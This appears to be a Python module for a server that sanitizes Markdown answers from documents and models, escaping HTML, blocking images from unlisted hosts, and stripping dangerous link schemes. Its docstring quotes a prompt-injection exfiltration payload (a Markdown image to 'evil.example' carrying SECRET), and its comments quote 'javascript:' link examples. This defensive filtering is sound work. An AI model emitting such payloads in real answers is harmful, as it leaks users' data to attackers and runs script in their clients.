"""The server's one output policy: what any client may receive of an answer, a quote, a title, a suggestion, an
export or an MCP result.

Text from documents and models is Markdown that some client will render — the bundled page, an MCP client, a
Teams bot. Whatever that client's own defences, the server sends none of these:

- **raw HTML**: when the HTML parser (nh3) sees markup in a text, every ``<`` and ``>`` of it is escaped, so a
  renderer shows the markup as text (``&lt;script&gt;``) instead of running or fetching it;
- **images from hosts not on the allow-list** (``ORC_OUTPUT_IMAGE_HOSTS``, empty by default): a Markdown image is
  fetched by the renderer without a click, so ``![x](https://evil.example/?q=SECRET)`` would exfiltrate whatever a
  prompt injection put in its URL; it is replaced by its alt text;
- **links whose scheme is not http, https or mailto** (``javascript:``, ``data:``, ``vbscript:``…): replaced by
  their text; reference definitions (``[x]: javascript:…``) with such a target are dropped.

What was removed is counted (:class:`Removed`, ``metadata.sanitized``). The policy is idempotent: a cleaned text
comes out of it unchanged, so cleaning twice (the stream, then the whole answer) counts nothing twice.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

import nh3

__all__ = ["OutputPolicy", "OutputStream", "Removed"]

LINK_SCHEMES = frozenset({"http", "https", "mailto"})
"""The only schemes a link in an answer may use."""

MAX_HELD_CHARS = 2000
"""Streaming: an unclosed ``[`` or ``<`` held longer than this is text, not a construct (it is still cleaned)."""

# Markdown inline images and links: ``![alt](dest "title")`` / ``[text](dest)``, with a destination either in angle
# brackets or without spaces (nested parentheses one level deep, as in Wikipedia URLs). The link text may hold one
# level of brackets (``[a [b] c](…)``). These are Markdown syntax, not HTML: nh3 parses the HTML.
_INLINE = re.compile(
    r"(?P<bang>!?)\[(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]"
    r"\(\s*(?P<dest><[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))*)(?P<title>\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
)
# A reference definition ``[label]: destination "title"`` on its own line (up to three spaces of indent).
_DEFINITION = re.compile(r"^ {0,3}\[(?P<label>[^\]\n]+)\]:[ \t]*(?P<dest><[^<>\n]*>|\S+)[^\n]*$", re.MULTILINE)
# What the inline and definition patterns may have missed: an image opener, a destination after a link text.
_OPENERS = re.compile(r"!\[|\]\(|\]:")
_FIRST_TOKEN = re.compile(r"[^\s()<>]*")
# ``<`` that could open markup or an autolink.
_ANGLE = re.compile(r"<[A-Za-z/!?]")
# A reference-style image ``![alt][label]`` / ``![alt][]`` / ``![alt]`` whose target a definition supplies.
_REF_IMAGE = re.compile(r"!\[(?P<text>[^\[\]\n]*)\](?:\[(?P<label>[^\[\]\n]*)\])?")


@dataclass(slots=True)
class Removed:
    """What the policy took out of one or more texts: HTML tags escaped, images dropped, links unlinked."""

    html: int = 0
    images: int = 0
    links: int = 0

    def add(self, other: Removed) -> None:
        """Count ``other``'s removals too."""
        self.html += other.html
        self.images += other.images
        self.links += other.links

    @property
    def total(self) -> int:
        """Everything removed."""
        return self.html + self.images + self.links

    def as_dict(self) -> dict[str, int]:
        """``{"html": n, "images": n, "links": n}`` (``metadata.sanitized``)."""
        return {"html": self.html, "images": self.images, "links": self.links}


class _TagCounter(HTMLParser):
    """Counts the markup a text holds (tags, comments, declarations), as an HTML parser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.count = 0

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.count += 1

    def handle_startendtag(self, tag: str, attrs: object) -> None:
        self.count += 1

    def handle_endtag(self, tag: str) -> None:
        self.count += 1

    def handle_comment(self, data: str) -> None:
        self.count += 1

    def handle_decl(self, decl: str) -> None:
        self.count += 1

    def handle_pi(self, data: str) -> None:
        self.count += 1

    def unknown_decl(self, data: str) -> None:
        self.count += 1


def _markup_count(text: str) -> int:
    counter = _TagCounter()
    counter.feed(text)
    counter.close()
    return max(counter.count, 1)


def _destination(raw: str) -> str:
    dest = raw.strip()
    if dest.startswith("<") and dest.endswith(">"):
        dest = dest[1:-1]
    return dest.strip()


def _scheme(url: str) -> str | None:
    """The URL's scheme, lower-cased, ignoring the whitespace and control characters browsers ignore in it; ``None``
    for a relative URL."""
    # A renderer decodes character references in a destination (``&#106;avascript:``) before it reads the scheme.
    squeezed = "".join(ch for ch in html.unescape(url) if ch > " " and ch != "\x7f")
    head, colon, _ = squeezed.partition(":")
    if not colon or "/" in head or "?" in head or "#" in head:
        return None
    return head.lower()


@dataclass(frozen=True, slots=True)
class OutputPolicy:
    """The output policy with its image allow-list (host names, compared case-insensitively)."""

    image_hosts: frozenset[str] = field(default_factory=frozenset)

    @classmethod
    def allowing(cls, hosts: Iterable[str]) -> OutputPolicy:
        """A policy that keeps Markdown images served over https by ``hosts``."""
        return cls(frozenset(host.strip().lower() for host in hosts if host.strip()))

    def link_allowed(self, url: str) -> bool:
        """Whether a link may point at ``url``: http, https or mailto (a relative URL has no scheme to abuse)."""
        scheme = _scheme(url)
        return scheme is None or scheme in LINK_SCHEMES

    def image_allowed(self, url: str) -> bool:
        """Whether a renderer may fetch an image from ``url``: https on an allowed host only."""
        if _scheme(url) != "https":
            return False
        try:
            host = (urlsplit(url.strip()).hostname or "").lower()
        except ValueError:
            return False
        return bool(host) and host in self.image_hosts

    def clean(self, text: str) -> tuple[str, Removed]:
        """``text`` as a client may receive it, and what was taken out."""
        removed = Removed()
        if not text:
            return text, removed
        text = self._definitions(text, removed)
        text = self._inline(text, removed)
        text = self._reference_images(text, removed)
        text = self._unparsed(text, removed)
        # The HTML tokenizer finds markup only at a '<' or a NUL: most answers have neither and skip it.
        if ("<" in text or "\x00" in text) and nh3.is_html(text):
            removed.html += _markup_count(text)
            text = text.replace("<", "&lt;").replace(">", "&gt;")
        elif _ANGLE.search(text):
            # Not HTML, but a renderer may still take it for an autolink (``<javascript:alert(1)>``).
            text = text.replace("<", "&lt;").replace(">", "&gt;")
        return text, removed

    def text(self, text: str, removed: Removed | None = None) -> str:
        """``text`` cleaned; its removals added to ``removed`` when given."""
        cleaned, found = self.clean(text)
        if removed is not None:
            removed.add(found)
        return cleaned

    def texts(self, texts: Iterable[str], removed: Removed | None = None) -> list[str]:
        """Every text cleaned (suggestions, titles)."""
        return [self.text(text, removed) for text in texts]

    def stream(self) -> OutputStream:
        """A cleaner for a text that arrives piece by piece."""
        return OutputStream(self)

    def _definitions(self, text: str, removed: Removed) -> str:
        def replace(match: re.Match[str]) -> str:
            dest = _destination(match.group("dest"))
            if self.link_allowed(dest):
                return match.group(0)
            removed.links += 1
            return ""

        return _DEFINITION.sub(replace, text)

    def _inline(self, text: str, removed: Removed) -> str:
        def replace(match: re.Match[str]) -> str:
            inner = match.group("text")
            dest = _destination(match.group("dest"))
            if match.group("bang"):
                if self.image_allowed(dest):
                    return match.group(0)
                removed.images += 1
                # The alt text stays (it is the document's words); an image nested in a link's text is cleaned too.
                return self._inline(inner, removed)
            cleaned_inner = self._inline(inner, removed)
            if self.link_allowed(dest):
                return match.group(0) if cleaned_inner == inner else f"[{cleaned_inner}]({match.group('dest')})"
            removed.links += 1
            return cleaned_inner

        return _INLINE.sub(replace, text)

    def _unparsed(self, text: str, removed: Removed) -> str:
        """The constructs the patterns above did not read (a link text over several lines, deeply nested
        parentheses) made inert: an image opener not kept as an allowed image loses its brackets' meaning, and a
        destination with a refused scheme is detached from its text, so the renderer shows both as text."""
        parts: list[str] = []
        last = 0
        for match in _OPENERS.finditer(text):
            at = match.start()
            if match.group(0) == "![":
                kept = _INLINE.match(text, at)
                if kept and self.image_allowed(_destination(kept.group("dest"))):
                    continue
                parts.append(text[last:at] + "!\\[")
                last = at + 2
                removed.images += 1
            else:
                dest = text[match.end() :].lstrip(" \t\n<")
                if self.link_allowed(_FIRST_TOKEN.match(dest).group(0)):  # type: ignore[union-attr]
                    continue
                parts.append(text[last:at] + "]\\" + match.group(0)[1:])
                last = match.end()
                removed.links += 1
        return "".join(parts) + text[last:] if parts else text

    def _reference_images(self, text: str, removed: Removed) -> str:
        # A reference image left after _definitions points at an allowed-scheme definition; it is still an image
        # fetched without a click, so only an allowed host keeps it.
        allowed_labels = {
            match.group("label").strip().lower()
            for match in _DEFINITION.finditer(text)
            if self.image_allowed(_destination(match.group("dest")))
        }
        defined = {match.group("label").strip().lower() for match in _DEFINITION.finditer(text)}

        def replace(match: re.Match[str]) -> str:
            label = (match.group("label") or match.group("text") or "").strip().lower()
            if label not in defined or label in allowed_labels:
                return match.group(0)
            removed.images += 1
            return match.group("text")

        return _REF_IMAGE.sub(replace, text)


@dataclass(slots=True)
class OutputStream:
    """Cleans a streamed text: text that could still become an image, a link or a tag is held back until it is
    complete, so a construct is never sent in two halves that are each harmless."""

    policy: OutputPolicy
    removed: Removed = field(default_factory=Removed)
    _held: str = ""

    def feed(self, piece: str) -> str:
        """The cleaned text that can be sent now."""
        text = self._held + piece
        cut = _open_construct(text)
        ready, self._held = text[:cut], text[cut:]
        return self.policy.text(ready, self.removed)

    def flush(self) -> str:
        """Whatever is still held, cleaned, at the end of the stream."""
        text, self._held = self._held, ""
        return self.policy.text(text, self.removed)


def _open_construct(text: str) -> int:
    """Where the construct still open at the end of ``text`` starts (``len(text)`` when none is)."""
    i = 0
    length = len(text)
    while i < length:
        ch = text[i]
        if ch == "<":
            end = _find(text, ">", i + 1)
            if end is None:
                return i if length - i <= MAX_HELD_CHARS else length
            i = end + 1
            continue
        if ch == "!" and i == length - 1:
            return i
        if ch == "[":
            start = i - 1 if i > 0 and text[i - 1] == "!" else i
            close = _find(text, "]", i + 1)
            if close is None:
                return start if length - start <= MAX_HELD_CHARS else length
            after = close + 1
            if after == length:
                return start
            if text[after] == "(":
                end = _find(text, ")", after + 1)
                if end is None:
                    return start if length - start <= MAX_HELD_CHARS else length
                i = end + 1
                continue
            if text[after] == ":" or text[after] == "[":
                end = _find(text, "\n" if text[after] == ":" else "]", after + 1)
                if end is None:
                    return start if length - start <= MAX_HELD_CHARS else length
                i = end + 1
                continue
            i = after
            continue
        i += 1
    return length


def _find(text: str, char: str, start: int) -> int | None:
    """The next ``char`` in ``text`` from ``start`` on the same line (``None`` if the line ends first)."""
    for j in range(start, len(text)):
        if text[j] == char:
            return j
        if text[j] == "\n" and char != "\n":
            return j
    return None
